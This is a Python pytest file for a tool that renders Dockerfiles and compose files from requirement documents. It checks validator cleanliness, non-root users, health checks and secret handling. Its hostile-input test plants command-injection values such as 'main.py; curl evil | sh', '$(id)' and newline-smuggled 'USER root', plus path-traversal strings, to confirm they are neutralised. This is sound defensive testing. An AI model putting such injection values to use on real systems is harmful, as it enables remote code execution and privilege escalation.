"""Dockerfile, .dockerignore, compose.yaml and .env.example.

Every Dockerfile goes through hadolint (no warnings) and checkov's Dockerfile
policies (no failure), every compose file through the Compose Specification
schema (check-jsonschema).  A missing tool is an error finding: these tests fail
when one is missing.
"""

from __future__ import annotations

import concurrent.futures
import dataclasses
import json
import re
from pathlib import Path
from typing import Any, Dict, List, Tuple

import pytest
import yaml

from ansible_collections.sdd.devops_flow.plugins.module_utils.errors import Finding, UsageError
from ansible_collections.sdd.devops_flow.plugins.module_utils.generate import Options, render
from ansible_collections.sdd.devops_flow.plugins.module_utils.loader import load_model
from ansible_collections.sdd.devops_flow.plugins.module_utils.model import EnvVar, Model
from ansible_collections.sdd.devops_flow.plugins.module_utils.render import container
from ansible_collections.sdd.devops_flow.plugins.module_utils.validators import containers as vc
from ansible_collections.sdd.devops_flow.plugins.module_utils.validators.base import Validator
from ansible_collections.sdd.devops_flow.plugins.module_utils.validators.checkov import Checkov
from ansible_collections.sdd.devops_flow.plugins.module_utils.validators.registry import UNCHECKED, validators_for

REPO = Path(__file__).resolve().parents[5]
EXAMPLES = REPO / "examples" / "docs" / "07_REQ"
FOREIGN = REPO / "tests" / "fixtures" / "foreign"

DOCUMENTS: Dict[str, Path] = {
    "REQ-14": EXAMPLES / "REQ-14_order_intake_api.md",
    "REQ-21": EXAMPLES / "REQ-21_catalog_search.md",
    "REQ-102": EXAMPLES / "REQ-102_ledger_events.md",
    "acme-payments": FOREIGN / "acme-payments/docs/07_REQ/REQ-07_payment_gateway.md",
    "northwind-catalog": FOREIGN / "northwind-catalog/docs/07_REQ/REQ-12_catalog_search.md",
    "contoso-ledger": FOREIGN
    / "contoso-ledger/docs/07_REQ/REQ-21_ledger_event_publisher/REQ-21_ledger_event_publisher.md",
    "initech-notifications": FOREIGN / "initech-notifications/docs/07_REQ/REQ-15_notification_dispatcher.md",
}

OWN: Dict[str, List[Validator]] = {
    "dockerfile": [vc.Hadolint(), Checkov("dockerfile")],
    "compose": [vc.ComposeSchema()],
}

_MODELS: Dict[Tuple[str, str], Model] = {}


def model_of(key: str, cloud: str = "") -> Model:
    if (key, cloud) not in _MODELS:
        _MODELS[(key, cloud)] = load_model(req=str(DOCUMENTS[key]), cloud=cloud or None)
    return _MODELS[(key, cloud)]


def write_tree(root: Path, files: Any) -> Dict[str, str]:
    kinds = {}
    for file in files:
        target = root / file.path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(file.content, encoding="utf-8")
        kinds[file.path] = file.kind
    return kinds


def validate(root: Path, kinds: Dict[str, str]) -> List[Finding]:
    by_kind: Dict[str, List[str]] = {}
    for path, kind in kinds.items():
        by_kind.setdefault(kind, []).append(path)
    tasks = []
    for kind, paths in sorted(by_kind.items()):
        if kind in UNCHECKED:
            continue
        tasks += [(v, sorted(paths)) for v in (validators_for(kind) or OWN[kind])]
    findings: List[Finding] = []
    with concurrent.futures.ThreadPoolExecutor(max_workers=4) as pool:
        for result in pool.map(lambda t: t[0].check(str(root), t[1]), tasks):
            findings.extend(result)
    return findings


def errors(findings: List[Finding]) -> List[str]:
    return [f.format() + " [%s]" % f.tool for f in findings if f.severity == "error"]


def content(files: Any, path: str) -> str:
    return next(f.content for f in files if f.path == path)


#: (case, document, --language): every document with its own language (contoso's
#: C# is forced to java), and all four languages for REQ-14.
CASES: List[Tuple[str, str, Any]] = [
    *((key, key, None if key != "contoso-ledger" else "java") for key in DOCUMENTS),
    *(("REQ-14-%s" % lang, "REQ-14", lang) for lang in container.LANGUAGES),
]


@pytest.fixture(scope="module")
def every_tree(tmp_path_factory: pytest.TempPathFactory) -> Tuple[Path, Dict[str, Any], List[Finding]]:
    root = tmp_path_factory.mktemp("containers")
    kinds: Dict[str, str] = {}
    rendered: Dict[str, Any] = {}
    for case, key, lang in CASES:
        files = render(model_of(key), Options(target="container", language=lang))
        rendered[case] = files
        for path, kind in write_tree(root / case, files).items():
            kinds["%s/%s" % (case, path)] = kind
    return root, rendered, validate(root, kinds)


def test_every_document_and_language_validates(every_tree: Tuple[Path, Dict[str, Any], List[Finding]]) -> None:
    _root, rendered, findings = every_tree
    assert errors(findings) == []
    # hadolint reports nothing at all, not even style notes
    assert [f for f in findings if f.tool == "hadolint"] == []
    for case, files in rendered.items():
        assert sorted(f.path for f in files) == [".dockerignore", ".env.example", "Dockerfile", "compose.yaml"], case


@pytest.mark.parametrize("lang", container.LANGUAGES)
def test_dockerfile_rules(lang: str, every_tree: Tuple[Path, Dict[str, Any], List[Finding]]) -> None:
    model = model_of("REQ-14")
    text = content(every_tree[1]["REQ-14-%s" % lang], "Dockerfile")
    froms = re.findall(r"^FROM (\S+)", text, re.M)
    assert len(froms) >= 2  # multi-stage
    for image in froms:
        assert ":" in image.rsplit("/", 1)[-1] and not image.endswith(":latest"), image
    assert "USER 65532:65532" in text
    assert re.search(r"^EXPOSE 8080/tcp$", text, re.M)
    health = re.search(r"^HEALTHCHECK --interval=15s --timeout=3s --retries=3 CMD (\[.*\])$", text, re.M)
    assert health, text
    argv = json.loads(health.group(1))
    assert argv[-1] == "http://127.0.0.1:8080/health/live"
    assert "curl" not in argv[0]
    assert "ENV DATABASE_URL" not in text and "ARG " not in text
    for var in model.service.env:
        if var.sensitive:
            assert var.name not in text
    if lang == "python":
        assert 'CMD ["python", "src/order_intake/main.py"]' in text
    if lang in ("go", "java"):
        assert "FROM golang:" in text and "AS healthcheck" in text


def test_entry_points_from_the_spec(every_tree: Tuple[Path, Dict[str, Any], List[Finding]]) -> None:
    rendered = every_tree[1]
    assert 'CMD ["src/server.js"]' in content(rendered["REQ-21"], "Dockerfile")
    assert "-o /out/app ./cmd/ledger-events" in content(rendered["REQ-102"], "Dockerfile")
    assert "EXPOSE 8080/tcp 9090/tcp" in content(rendered["REQ-102"], "Dockerfile")
    acme = content(rendered["acme-payments"], "Dockerfile")
    assert '"com.acme.pay.gateway.GatewayApplication"]' in acme


def test_compose_services(every_tree: Tuple[Path, Dict[str, Any], List[Finding]]) -> None:
    rendered = every_tree[1]
    data = yaml.safe_load(content(rendered["REQ-14"], "compose.yaml"))
    assert "version" not in data
    services = data["services"]
    app = services["order-intake-api"]
    assert services["db"]["image"] == "postgres:15"
    assert services["cache"]["image"].startswith("redis:")
    assert "localstack" in services and "sqs" in services["localstack"]["environment"]["SERVICES"]
    assert app["depends_on"] == {name: {"condition": "service_healthy"} for name in ("db", "cache", "localstack")}
    for name, service in services.items():
        assert "healthcheck" in service, name
    assert set(data["volumes"]) >= {"db-data", "cache-data"}
    assert app["environment"]["DATABASE_URL"] == "${DATABASE_URL:?set DATABASE_URL in .env}"
    assert services["db"]["environment"]["POSTGRES_PASSWORD"].startswith("${DB_PASSWORD:?")
    env_example = content(rendered["REQ-14"], ".env.example")
    assert re.search(r"^DATABASE_URL=$", env_example, re.M)
    assert re.search(r"^DB_PASSWORD=$", env_example, re.M)
    assert ".env" in content(rendered["REQ-14"], ".dockerignore").split("\n")

    acme = yaml.safe_load(content(rendered["acme-payments"], "compose.yaml"))["services"]
    assert acme["db"]["image"] == "mysql:8.0"
    gcp = yaml.safe_load(content(rendered["REQ-21"], "compose.yaml"))["services"]
    assert "pubsub" in gcp and gcp["cache"]["image"] == "redis:7-alpine"
    azure = yaml.safe_load(content(rendered["REQ-102"], "compose.yaml"))["services"]
    assert {"servicebus", "azurite", "db", "cache"} <= set(azure)


def test_unsupported_language_is_a_usage_error() -> None:
    with pytest.raises(UsageError, match="csharp"):
        render(model_of("contoso-ledger"), Options(target="container"))
    model = model_of("REQ-14")
    bare = dataclasses.replace(model, service=dataclasses.replace(model.service, language=None))
    with pytest.raises(UsageError, match="--language"):
        render(bare, Options(target="container"))


@pytest.mark.parametrize("cloud", ["aws", "gcp", "azure"])
def test_forced_clouds_pick_the_cloud_emulators(cloud: str) -> None:
    expected = {"aws": "localstack", "gcp": "pubsub", "azure": "servicebus"}[cloud]
    for key in ("REQ-14", "REQ-21", "REQ-102"):
        files = render(model_of(key, cloud), Options(target="container"))
        services = yaml.safe_load(content(files, "compose.yaml"))["services"]
        assert expected in services, (key, cloud)


def test_deterministic() -> None:
    model = model_of("REQ-102")
    assert [(f.path, f.content) for f in render(model, Options(target="container"))] == [
        (f.path, f.content) for f in render(model, Options(target="container"))
    ]


def test_sensitive_values_never_written() -> None:
    model = model_of("REQ-14")
    secret = EnvVar("SIGNING_KEY", required=True, sensitive=True, default="never-Write-Me-77")
    model = dataclasses.replace(model, service=dataclasses.replace(model.service, env=(*model.service.env, secret)))
    for lang in container.LANGUAGES:
        for file in render(model, Options(target="container", language=lang)):
            assert "never-Write-Me-77" not in file.content, file.path


def test_hostile_values_are_inert(tmp_path: Path) -> None:
    model = model_of("REQ-14")
    hostile = dataclasses.replace(
        model,
        service=dataclasses.replace(
            model.service,
            title='Evil" \\ $HOME\nUSER root\n# x',
            entry_point="main.py; curl evil | sh",
            env=(
                EnvVar("EVIL", default='${HOME} $(id) `id` "q"\nnext: 1'),
                EnvVar("DROP ME", default="x"),
            ),
            health=dataclasses.replace(model.service.health, liveness="/live\nUSER root $HOME"),
        ),
        # (a newline in the requirement id would break the writer's managed header,
        # which is not this renderer's: the id is kept on one line here)
        traceability=dataclasses.replace(model.traceability, req='REQ-1 "$HOME" {{x}} \\'),
    )
    kinds: Dict[str, str] = {}
    for lang in container.LANGUAGES:
        for path, kind in write_tree(
            tmp_path / lang, render(hostile, Options(target="container", language=lang))
        ).items():
            kinds["%s/%s" % (lang, path)] = kind
    assert errors(validate(tmp_path, kinds)) == []
    for lang in container.LANGUAGES:
        text = (tmp_path / lang / "Dockerfile").read_text(encoding="utf-8")
        assert re.findall(r"^USER .*$", text, re.M) == ["USER 65532:65532"]
        assert "curl evil" not in text
        data = yaml.safe_load((tmp_path / lang / "compose.yaml").read_text(encoding="utf-8"))
        env = data["services"]["order-intake-api"]["environment"]
        # compose turns $$ back into $: the application sees the document's text
        assert env["EVIL"].replace("$$", "$") == '${HOME} $(id) `id` "q"\nnext: 1'
        assert "DROP ME" not in env


def test_escaping_helpers() -> None:
    assert container.dockerfile_quote('a"b\\c$d\ne\\') == '"a\\"b/c\\$d e/"'
    assert json.loads(container.exec_form(["x", "a\nb"])) == ["x", "a b"]
    assert container.safe_path("cmd/app/main.go") == "cmd/app/main.go"
    for bad in ("../x", "/etc/passwd", "a b", "a;b", "$(id)", ""):
        assert container.safe_path(bad) is None
    assert container.compose_escape("a$b") == "a$$b"
